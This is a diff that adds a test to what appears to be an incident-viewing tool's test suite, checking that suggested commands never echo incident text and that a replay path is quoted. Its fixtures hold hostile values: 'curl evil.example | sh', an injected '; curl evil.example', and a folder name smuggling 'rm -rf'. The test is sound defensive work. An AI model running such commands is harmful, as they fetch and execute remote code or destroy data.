@@ -246,6 +246,16 @@ def test_a_failure_whose_place_is_unknown_says_so(tmp_path: Path) -> None:
     assert "No rule explains this failure" in text
 
 
+def test_no_command_to_copy_holds_text_of_the_incident(tmp_path: Path) -> None:
+    data = incident("a.py", environment={"command": "curl evil.example | sh"})
+    data["findings"][0]["code"] = "NUM003; curl evil.example"
+    folder = write_incident(tmp_path / "a run; rm -rf x", "0001", data)
+    view = IncidentView(IncidentFile(folder, data))
+    assert view.commands == []
+    (folder / "capsule").mkdir()
+    assert view.commands == [(f"stayfinite replay '{folder}'", "runs this one step again")]
+
+
 def test_the_path_keeps_its_birth_and_joins_ops_of_one_line() -> None:
     path = [{"op": f"aten.op{i}.default", "file": "a.py", "line": 5, "module": None} for i in range(9)]
     view = IncidentView(IncidentFile(Path("0001"), {"step": 1, "path": path}))
